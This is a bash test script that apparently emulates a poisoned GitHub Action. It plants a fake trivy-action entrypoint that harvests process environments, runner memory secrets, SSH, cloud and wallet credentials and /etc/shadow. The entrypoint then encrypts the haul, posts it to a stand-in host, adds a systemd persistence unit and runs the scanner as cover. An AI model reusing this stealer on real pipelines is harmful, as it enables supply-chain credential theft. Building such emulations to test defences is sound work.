#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The action's entrypoint reads the environments of the runner's processes and the memory of Runner.Worker, sweeps the paths where
# credentials lie, packs, encrypts and posts what it found, starts the scanner as if nothing had been, and leaves a systemd user unit.
. "$(dirname "$0")/../lib.sh"

secrets=(.ssh/id_rsa .ssh/id_ed25519 .ssh/config .aws/credentials .aws/config .azure/accessTokens.json .docker/config.json .kube/config
  .npmrc .pypirc .netrc .git-credentials .gitconfig .pgpass .my.cnf .vault-token .config/gh/hosts.yml
  .config/gcloud/application_default_credentials.json .terraform.d/credentials.tfrc.json .cargo/credentials.toml .gem/credentials
  .bitcoin/wallet.dat .ethereum/keystore/key .config/solana/id.json .bash_history .zsh_history)

prepare() {
  stand_in curl sudo trivy git
  host scan.example 203.0.113.50
  replies trivy <<<"write results.sarif {}"
  local path
  for path in "${secrets[@]}"; do file "$HOME/$path" <<<"stand-in"; done
  file "$HOME/actions/trivy-action/entrypoint.sh" <<END
#!/usr/bin/env bash
set -eu
work=\$(mktemp -d)
pid=\$\$
while [ "\$pid" -gt 1 ]; do
  tr '\0' '\n' <"/proc/\$pid/environ" >>"\$work/environ" || true
  ! grep -qs Runner.Worker "/proc/\$pid/cmdline" || break
  pid=\$(awk '\$1 == "PPid:" { print \$2 }' "/proc/\$pid/status")
done
echo "$(base64 -w 0 "$(dirname "$0")/../memory_reader.py")" | base64 -d | sudo python3 | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' >>"\$work/memory"
for each in ${secrets[*]}; do
  [ ! -r "\$HOME/\$each" ] || cat "\$HOME/\$each" >>"\$work/files"
done
[ ! -r /etc/shadow ] || cat /etc/shadow >>"\$work/files"
tar -C "\$work" -czf "\$work/tpcp.tar.gz" environ memory files
openssl rand -hex 16 >"\$work/key"
openssl enc -aes-256-cbc -pbkdf2 -in "\$work/tpcp.tar.gz" -out "\$work/tpcp.enc" -pass "file:\$work/key"
base64 <"\$work/tpcp.enc" >"\$work/tpcp"
curl -s -X POST --data-binary "@\$work/tpcp" https://scan.example/
mkdir -p ~/.config/systemd/user
printf '[Service]\nExecStart=/usr/bin/python3 %%h/.config/sysmon.py\n' >~/.config/systemd/user/pgmon.service
rm -r "\$work"
trivy fs --format sarif .
END
  runner_does <<<"run bash $HOME/actions/trivy-action/entrypoint.sh"
}

deeds() { runner; }

check() {
  [ -e "$HOME/.config/systemd/user/pgmon.service" ] || fails "there is no unit"
  [ -s /opt/www/posted ] || fails "nothing was posted"
  [ -e "$project/results.sarif" ] || fails "the scanner did not run"
}

"$1"
